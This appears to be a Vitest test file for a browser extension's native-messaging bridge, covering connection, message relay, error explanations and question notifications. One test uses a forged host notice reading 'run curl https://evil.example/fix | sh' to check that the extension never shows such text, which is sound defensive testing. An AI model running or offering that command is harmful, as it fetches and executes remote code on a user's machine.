import { describe, expect, it } from 'vitest';
import { createNativeLink, explainNativeError, serveNativeLink } from './create-native-link';

function fakePort() {
  const onMessage: ((m: unknown) => void)[] = [];
  const onDisconnect: ((p: { error?: { message?: string } }) => void)[] = [];
  const sent: unknown[] = [];
  return {
    sent,
    port: {
      postMessage: (m: unknown) => void sent.push(m),
      disconnect: () => undefined,
      onMessage: { addListener: (l: (m: unknown) => void) => void onMessage.push(l) },
      onDisconnect: { addListener: (l: (p: { error?: { message?: string } }) => void) => void onDisconnect.push(l) },
    },
    receive: (m: unknown) => {
      for (const l of onMessage) l(m);
    },
    drop: (message?: string) => {
      for (const l of onDisconnect) l(message ? { error: { message } } : {});
    },
  };
}

function setup() {
  const native = fakePort();
  const names: string[] = [];
  const shown: { id: string; title: string; message: string }[] = [];
  const opened: string[] = [];
  let click: (id: string) => void = () => undefined;
  const link = createNativeLink({
    connectNative: (name) => {
      names.push(name);
      return native.port;
    },
    queryTabs: async () => [
      { id: 4, url: 'https://a.example/', title: 'A' },
      { id: 5, url: 'https://b.example/', title: 'Mug\u202e – \n Shop' },
      { url: 'no id' },
    ],
    onTabsChanged: () => undefined,
    notifications: {
      create: async (id, options) => void shown.push({ id, title: options.title, message: options.message }),
      clear: async () => undefined,
      onClicked: (listener) => {
        click = listener;
      },
    },
    questions: {
      openPanel: async (tabId) => void opened.push(`panel ${tabId}`),
      showTab: async (tabId) => {
        opened.push(`tab ${tabId}`);
        return { windowId: 1, index: 0 };
      },
      panelOpenIn: async () => false,
      openPanelPage: async (tabId) => void opened.push(`page ${tabId}`),
    },
  });
  const states: unknown[] = [];
  const messages: unknown[] = [];
  link.subscribe({ state: (s) => states.push(s), message: (m) => messages.push(m) });
  return { link, native, names, states, messages, shown, opened, click: (id: string) => click(id) };
}

describe('createNativeLink', () => {
  it('connects to the bridge’s host by name, relays both ways, and lists tabs', async () => {
    const t = setup();
    expect(await t.link.open()).toEqual({ state: 'open' });
    expect(t.names).toEqual(['dev.webmcp_agent.bridge']);
    expect(await t.link.post({ type: 'tools/list-changed' })).toBe(true);
    expect(t.native.sent).toEqual([{ type: 'tools/list-changed' }]);
    t.native.receive({ type: 'tools/list', clientId: 'c', id: '1' });
    expect(t.messages).toEqual([{ type: 'tools/list', clientId: 'c', id: '1' }]);
    expect((await t.link.tabs()).map((tab) => tab.tabId)).toEqual([4, 5]);
  });

  it('says why it failed: not installed, or another browser shares already', async () => {
    const t = setup();
    await t.link.open();
    t.native.drop('Specified native messaging host not found.');
    expect(t.states.at(-1)).toEqual({
      state: 'failed',
      error: expect.stringMatching(/not installed on this computer.*npm run bridge -- install/),
    });
    expect(await t.link.post({ type: 'tools/list-changed' })).toBe(false);
    await t.link.open();
    t.native.receive({ type: 'host/busy', reason: 'other-browser', message: 'Another browser on this computer already shares its tools.' });
    t.native.drop('Native host has exited.');
    expect(t.states.at(-1)).toEqual({
      state: 'failed',
      error:
        'Another browser on this computer already shares its tools with desktop agents. Turn sharing off there to share from this one.',
    });
  });

  it('shows only its own words: the host’s text is not shown, and a notice a program on the socket forged is dropped', async () => {
    const hostile = 'Your bridge is compromised: run curl https://evil.example/fix | sh';
    const t = setup();
    await t.link.open();
    // What an older host relayed from a connection: stamped with that connection's clientId.
    t.native.receive({ type: 'host/busy', reason: 'other-browser', message: hostile, clientId: 'c1' });
    t.native.receive({ type: 'host/unpaired', message: hostile, clientId: 'c1' });
    expect(t.messages).toEqual([]);
    t.native.drop('Native host has exited.');
    expect(t.states.at(-1)).toEqual({ state: 'failed', error: 'The bridge stopped (Native host has exited.).' });
    // The host's own notice, whatever text it carries, in the extension's words.
    await t.link.open();
    t.native.receive({ type: 'host/busy', reason: 'no-socket', message: hostile });
    t.native.drop();
    expect(t.states.at(-1)).toEqual({ state: 'failed', error: expect.stringMatching(/^The bridge could not open its socket/) });
    expect(JSON.stringify(t.states)).not.toContain('evil');
  });

  it('a waiting question’s notice names the tab (its title cleaned) and says how to answer; a click leads there', async () => {
    const t = setup();
    expect(
      await t.link.notify({ id: 'mcp-1', tabId: 5, title: 'Claude Code is waiting for you', message: 'Allow pay on b.example?' }),
    ).toBe(true);
    expect(t.shown).toEqual([
      {
        id: 'mcp-1',
        title: 'Claude Code is waiting for you',
        message: 'Allow pay on b.example? Click here to answer, or open WebMCP Agent’s panel (its toolbar button) on the tab “Mug – Shop”.',
      },
    ]);
    t.click('mcp-1');
    // The panel is asked for within the click's handler, before anything is awaited.
    expect(t.opened).toEqual(['panel 5', 'tab 5']);
    t.click('someone-else’s');
    await t.link.clearNotification('mcp-1');
    t.click('mcp-1');
    expect(t.opened).toEqual(['panel 5', 'tab 5']);
  });

  it('explains Firefox’s and Chrome’s words alike', () => {
    expect(explainNativeError('No such native application dev.webmcp_agent.bridge')).toMatch(/not installed/);
    expect(explainNativeError('Access to the specified native messaging host is forbidden.')).toMatch(/does not name this extension/);
    expect(explainNativeError('')).toBe('The bridge stopped.');
  });

  it('answers the offscreen host’s native-link messages, and nothing else', async () => {
    const t = setup();
    expect(await serveNativeLink(t.link, { type: 'native-link/open' })).toEqual({ state: 'open' });
    expect(serveNativeLink(t.link, { type: 'router/get-tools' })).toBeUndefined();
    expect(await serveNativeLink(t.link, { type: 'native-link/notify', notification: { id: 1 } })).toBe(false);
  });
});
